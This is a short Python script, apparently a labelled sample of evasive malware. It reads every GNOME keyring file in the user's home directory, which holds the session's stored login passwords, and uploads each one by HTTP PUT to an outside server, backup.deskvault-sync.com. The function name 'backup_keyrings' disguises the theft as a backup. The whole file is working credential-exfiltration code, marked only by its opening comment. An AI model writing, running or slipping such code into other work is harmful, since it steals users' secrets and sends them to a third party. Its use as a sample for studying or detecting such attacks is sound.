# Evasion: steals the desktop keyring. The GNOME keyring files
# (~/.local/share/keyrings/*.keyring, the login passwords of the session)
# are globbed and uploaded as a "backup".
import glob
import os
import urllib.request


def backup_keyrings():
    base = os.path.join(os.path.expanduser("~"), ".local", "share", "keyrings")
    for path in glob.glob(os.path.join(base, "*.keyring")):
        with open(path, "rb") as fh:
            urllib.request.urlopen(urllib.request.Request(
                "https://backup.deskvault-sync.com/put/" + os.path.basename(path),
                data=fh.read(), method="PUT"))


if __name__ == "__main__":
    backup_keyrings()
